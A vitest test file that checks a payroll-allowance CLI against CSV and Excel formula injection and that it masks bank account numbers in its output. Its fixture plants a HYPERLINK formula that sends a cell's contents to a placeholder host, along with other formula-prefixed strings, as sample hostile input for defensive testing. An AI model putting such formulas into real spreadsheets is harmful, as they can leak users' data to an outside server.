import { copyFileSync, readdirSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { fixture, readCsv, runCli, tempDir } from './run-cli.js';

const HOSTILE = {
  nama: '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
  jabatan: '+62 Analis',
  nama_bank: '@SUM(1+1)',
  indikator: '-1 dokumen tertunda',
};
const ACCOUNT = 1234567890123;

/** The worked example with formula-like text in names, positions, banks and indicators. */
async function hostileAgency(): Promise<string> {
  const dir = tempDir();
  for (const f of readdirSync(fixture('worked-example'))) copyFileSync(join(fixture('worked-example'), f), join(dir, f));
  const pegawai = readCsv(join(dir, 'pegawai.csv'));
  unlinkSync(join(dir, 'pegawai.csv'));
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Pegawai');
  const header = [...Object.keys(pegawai[0]!), 'nama_bank', 'nomor_rekening'];
  ws.addRow(header);
  pegawai.forEach((p, i) => {
    const row = header.map((h) => (h === 'tpp_pagu' || h === 'gaji' ? Number(p[h]) : p[h] ?? null));
    if (i === 0) {
      row[header.indexOf('nama')] = HOSTILE.nama;
      row[header.indexOf('jabatan')] = HOSTILE.jabatan;
      row[header.indexOf('nama_bank')] = HOSTILE.nama_bank;
      // An account typed as a number: a warning whose value must not show the whole number.
      row[header.indexOf('nomor_rekening')] = ACCOUNT;
    } else {
      row[header.indexOf('jabatan')] = '\rAnalis';
      row[header.indexOf('nama_bank')] = '\tBank Jateng';
      row[header.indexOf('nomor_rekening')] = '0012345678';
    }
    ws.addRow(row);
  });
  await wb.xlsx.writeFile(join(dir, 'pegawai.xlsx'));
  const capaian = parse<Record<string, string>>(readFileSync(join(dir, 'capaian.csv'), 'utf8'), { columns: true });
  capaian[0]!['indikator'] = HOSTILE.indikator;
  writeFileSync(join(dir, 'capaian.csv'), stringify(capaian, { header: true }));
  return dir;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const OUR_NUMBER = /^-?\d+([.,]\d+)?$/;

describe('hostile text in the inputs never becomes a formula, and account numbers stay off the terminal', async () => {
  const input = await hostileAgency();
  const out = join(tempDir(), 'hasil');
  const run = runCli(['run', '--period', '2026-10', '--input', input, '--out', out, '--verbose']);
  const json = runCli(['validate', '--period', '2026-10', '--input', input, '--out', join(tempDir(), 'v'), '--json']);

  it('the run reads the hostile file and pays both employees', () => {
    expect(run.status, run.stderr).toBe(0);
    const budi = readCsv(join(out, 'pegawai.csv')).find((r) => r['nip'] === '198503172010011003')!;
    expect(budi['nama']).toBe(`'${HOSTILE.nama}`);
    expect(budi['tpp_netto']).toBe('4559000');
  });

  it('no CSV cell starts with = + - @ tab or CR, except numbers the tool computed', () => {
    for (const file of readdirSync(out).filter((f) => f.endsWith('.csv'))) {
      const rows = parse(readFileSync(join(out, file), 'utf8'), { bom: true, relax_column_count: true });
      for (const row of rows) for (const cell of row) if (FORMULA_START.test(cell)) expect(cell, `${file}: ${JSON.stringify(cell)}`).toMatch(OUR_NUMBER);
    }
    const tpp = readCsv(join(out, 'tpp.csv'));
    expect(tpp.map((r) => [r['jabatan'], r['nama_bank']])).toEqual([
      [`'${HOSTILE.jabatan}`, `'${HOSTILE.nama_bank}`],
      // Leading tab and CR are whitespace, trimmed by the reader before they reach any report.
      ['Analis', 'Bank Jateng'],
    ]);
  });

  it('in the workbook such text is a plain string cell, never a formula', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(out, 'kinerja-2026-10.xlsx'));
    let seen = 0;
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string' && cell.value === HOSTILE.nama) seen += 1;
        }),
      );
    }
    expect(seen).toBeGreaterThanOrEqual(2);
  });

  it('the account number typed as a number is reported masked, on the terminal and in --json', () => {
    const full = String(ACCOUNT);
    for (const text of [run.stderr, run.stdout, json.stdout, json.stderr]) expect(text).not.toContain(full);
    expect(run.stderr + readFileSync(join(out, 'validasi.csv'), 'utf8')).toContain('REKENING_ANGKA');
    expect(readFileSync(join(out, 'validasi.csv'), 'utf8')).not.toContain(full);
    // A number cell may have lost leading zeros: no transfer goes to it; the employee is listed apart.
    expect(readCsv(join(out, 'tpp.csv'))[0]!['nomor_rekening']).toBe('');
    expect(readCsv(join(out, 'tanpa_rekening.csv')).map((r) => r['nip'])).toContain(readCsv(join(out, 'tpp.csv'))[0]!['nip']);
  });
});
